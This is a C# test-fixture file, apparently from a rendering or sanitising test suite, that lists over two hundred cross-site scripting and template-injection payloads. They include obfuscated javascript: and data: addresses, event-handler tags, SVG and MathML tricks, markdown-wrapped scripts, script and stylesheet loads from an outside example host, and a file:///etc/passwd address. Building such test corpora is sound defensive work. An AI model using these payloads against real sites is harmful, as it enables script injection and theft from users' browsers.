namespace Loisirs.Testing.Hostile;

/// <summary>Texts that would run in a page that did not take them for texts (P-711). Each that runs says 711.</summary>
public static class Scripts
{
    /// <summary>What a template of some other language would compute, or a format would fill in.</summary>
    public static IReadOnlyList<string> Placeholders { get; } =
        ["{{constructor}}", "{{7*7}}", "{0} {1}", "{9}", "{", "}", "{{", "%s %n %d", "${7*7}", "#{7*7}", "@Model.Secret", "@(7*7)", "<%= 7*7 %>", "[[${7*7}]]", "{% debug %}", "&lt;b&gt;", "&amp;"];

    /// <summary>Addresses that run, as readers of addresses were led astray.</summary>
    private static readonly string[] Addresses =
    [
        "javascript:alert(711)", "JaVaScRiPt:alert(711)", " javascript:alert(711)", "java\tscript:alert(711)", "java\nscript:alert(711)",
        "&#106;avascript:alert(711)", "&#x6A;&#x61;vascript:alert(711)", "&#0000106avascript:alert(711)", "javascript&colon;alert(711)",
        "java&Tab;script:alert(711)", "java&NewLine;script:alert(711)", "javascript://%0aalert(711)", "javascript:alert%28711%29",
        "data:text/html,<script>alert(711)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCg3MTEpPC9zY3JpcHQ+", "DATA:image/svg+xml,<svg onload=alert(711)>",
        "vbscript:msgbox(711)", "feed:javascript:alert(711)", "view-source:javascript:alert(711)", "blob:https://ailleurs.example/711", "file:///etc/passwd",
        "\\javascript:alert(711)", "javascript\\:alert(711)",
    ];

    /// <summary>Where an address is written.</summary>
    private static readonly string[] Places =
    [
        "[x]({0})", "[x](<{0}>)", "<{0}>", "![x]({0})", "[x][r]\n\n[r]: {0}", "<a href=\"{0}\">x</a>", "<iframe src='{0}'></iframe>", "<form action={0}><button>x</button></form>",
    ];

    private static readonly string[] Elements =
    [
        "<script>alert(711)</script>", "<SCRIPT SRC=//ailleurs.example/x.js></SCRIPT>", "<scr<script>ipt>alert(711)</scr</script>ipt>", "</title><script>alert(711)</script>",
        "</textarea><script>alert(711)</script>", "</script><script>alert(711)</script>", "--><script>alert(711)</script>", "]]><script>alert(711)</script>",
        "<img src=x onerror=alert(711)>", "<img/src=x/onerror=alert(711)>", "<img src=x onerror\u000A=alert(711)>", "\"><img src=x onerror=alert(711)>", "' onmouseover='alert(711)",
        "\" autofocus onfocus=alert(711) x=\"", "`><img src=x onerror=alert(711)>", "<svg onload=alert(711)>", "<svg><script>alert(711)</script></svg>",
        "<svg><a xlink:href='javascript:alert(711)'><text>x</text></a></svg>", "<svg><animate onbegin=alert(711) attributeName=x></svg>", "<math><maction actiontype=statusline xlink:href='javascript:alert(711)'>x",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(711)></style></mglyph></table></mtext></math>", "<body onload=alert(711)>", "<details open ontoggle=alert(711)>",
        "<video><source onerror=alert(711)></video>", "<audio src=x onerror=alert(711)>", "<input autofocus onfocus=alert(711)>", "<select autofocus onfocus=alert(711)>",
        "<marquee onstart=alert(711)>", "<object data=javascript:alert(711)></object>", "<embed src=javascript:alert(711)>", "<base href=//ailleurs.example/>",
        "<link rel=stylesheet href=//ailleurs.example/x.css>", "<meta http-equiv=refresh content='0;url=javascript:alert(711)'>", "<style>*{background:url(javascript:alert(711))}</style>",
        "<p style='background:url(//ailleurs.example/x)'>x</p>", "<div style=\"width:expression(alert(711))\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(711)>\">",
        "<template><script>alert(711)</script></template>", "<iframe srcdoc='<script>alert(711)</script>'></iframe>", "<a href=x ping=//ailleurs.example/>x</a>", "<portal src=//ailleurs.example/>",
        "<!--<img src=\"--><img src=x onerror=alert(711)//\">", "<![CDATA[<script>alert(711)</script>]]>", "<?xml-stylesheet href='javascript:alert(711)'?>", "<x onclick=alert(711)>x",
        "&lt;script&gt;alert(711)&lt;/script&gt;", "&#60;script&#62;alert(711)&#60;/script&#62;", "\\<script>alert(711)\\</script>", "**<b onclick=alert(711)>x</b>**", "> <script>alert(711)</script>",
        "```html\n<script>alert(711)</script>\n```", "`<script>alert(711)</script>`", "    <script>alert(711)</script>", "[<script>alert(711)</script>](https://x.example)",
        "[x](https://x.example \"\\\" onclick=alert(711) x=\\\"\")", "[x](https://x.example'onclick='alert(711))", "![\" onerror=alert(711)](x)", "# <script>alert(711)</script>", "- [ ] <script>alert(711)</script>",
    ];

    /// <summary>More than two hundred, of one line or several.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Elements, .. Places.SelectMany(place => Addresses.Select(address => place.Replace("{0}", address, StringComparison.Ordinal)))];
}
